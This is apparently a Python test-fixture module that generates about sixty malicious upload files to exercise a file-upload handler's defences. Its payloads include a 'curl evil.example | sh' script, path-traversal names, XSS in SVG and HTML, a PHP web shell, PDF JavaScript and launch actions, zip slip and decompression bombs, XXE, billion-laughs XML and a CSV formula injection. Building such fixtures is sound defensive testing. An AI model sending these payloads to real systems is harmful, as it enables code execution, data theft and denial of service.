"""Sixty files that nobody should be able to harm us with: (name, content)."""

from __future__ import annotations

import base64
import gzip
import io
import zipfile
import zlib

from PIL import Image

BASH = b"#!/bin/sh\ncurl evil.example | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def picture(
    form: str = "PNG", *, size: tuple[int, int] = (8, 8), tail: bytes = b"", exif: bool = False
) -> bytes:
    """A real picture, with something glued behind it or a comment in it."""
    drawn = io.BytesIO()
    image = Image.new("RGB", size, (10, 20, 30))
    extra = {}
    if exif:
        data = Image.Exif()
        data[0x010E] = "PHPSHELL <?php system($_GET[0]) ?>"
        extra = {"exif": data}
    image.save(drawn, form, **extra)
    return drawn.getvalue() + tail


def png_bomb() -> bytes:
    """A PNG that says it has 60,000 x 60,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 9999))
        + chunk(b"IEND", b"")
    )


def packed(entries: dict[str, bytes]) -> bytes:
    """A ZIP of these."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return made.getvalue()


def pdf(body: bytes) -> bytes:
    """A small PDF around an object."""
    return b"%PDF-1.7\n1 0 obj\n<<" + body + b">>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def packed_pdf(body: bytes) -> bytes:
    """The same object inside a packed object stream."""
    stream = zlib.compress(b"<<" + body + b">>")
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>stream\n"
        + stream
        + b"\nendstream\nendobj\n%%EOF\n"
    )


SHEET_XXE = packed(
    {
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>',
    }
)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'

FILES: tuple[tuple[str, bytes], ...] = (
    ("../../../../etc/cron.d/x.txt", BASH), ("..\\..\\evil.txt", b"plain"), ("/etc/passwd", b"root:x:0:0"),
    ("C:\\Windows\\x.txt", b"plain"), ("x\x00.pdf", b"plain"), ("con.txt", b"plain"), (".htaccess", b"AddType x .txt"),
    ("a" * 5000 + ".txt", b"plain"), ("\u202egpj.exe", b"MZ\x90\x00"), ("x.txt\r\nSet-Cookie: a=b", b"plain"),
    ('x".txt', b"plain"), ("<img src=x onerror=alert(1)>.txt", b"plain"), ("", b"plain"), (" . ", b"plain"),
    ("x.html", HTML), ("x.txt", HTML), ("x.csv", HTML), ("x.svg", SVG), ("x.txt", SVG), ("x.pdf", SVG),
    ("x.png", SVG), ("x.xml", LAUGHS), ("x.txt", LAUGHS), ("x.php", b"<?php system($_GET[0]); ?>"),
    ("x.txt", b"<?php system($_GET[0]); ?>"), ("x.jsp", b"<% Runtime.exec() %>"), ("x.exe", b"MZ\x90\x00\x03"),
    ("x.pdf", b"MZ\x90\x00\x03\xff"), ("x", b"\x7fELF\x02\x01\x01"), ("x.png", b"\x7fELF\x02"), ("x.sh", BASH),
    ("x.js", b"alert(1)"), ("x.jar", packed({"META-INF/MANIFEST.MF": b"x"})), ("x.png", picture("JPEG")),
    ("x.jpg", picture("PNG")), ("x.pdf", picture("PNG")), ("x.png", picture("PNG", tail=HTML)),
    ("x.jpg", picture("JPEG", tail=BASH)), ("x.jpg", picture("JPEG", exif=True)), ("x.png", png_bomb()),
    ("x.png", picture("PNG")[:40]), ("x.gif", b"GIF89a/*<script>*/=1;alert(1)"), ("x.png", b"\x89PNG\r\n\x1a\n" + HTML),
    ("x.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")), ("x.pdf", pdf(b"/S/J#61vaScript")),
    ("x.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")), ("x.pdf", packed_pdf(b"/S/JavaScript/JS(1)")),
    ("x.pdf", pdf(b"/Names<</EmbeddedFile 2 0 R>>")), ("x.pdf", b"%PDF-1.7" + HTML + b"\xff\xfe"),
    ("x.zip", packed({"../../evil.txt": b"x"})), ("x.zip", packed({"/etc/passwd": b"x"})),
    ("x.zip", packed({f"{n}.txt": b"" for n in range(1_500)})), ("x.zip", packed({"bomb": b"\0" * 20_000_000})),
    ("x.zip", b"PK\x03\x04" + b"\xff" * 64), ("x.xlsx", SHEET_XXE), ("x.zip", packed({"a.csv": b"id\n"})[:-10]),
    ("x.csv.gz", gzip.compress(b"\0" * 30_000_000)), ("x.csv", b"id,name\n=cmd|' /C calc'!A0,x\n"),
    ("x.txt", b"\xff\xfe" + "wide".encode("utf-16-le")), ("x.txt", b"a\x00b"), ("x.835", b"ISA*" + b"A" * 3000),
    ("x.txt", EICAR), ("x.txt", base64.b64encode(HTML)), ("x.txt", b""), ("x.txt", b"\xed\xa0\x80"),
)  # fmt: skip
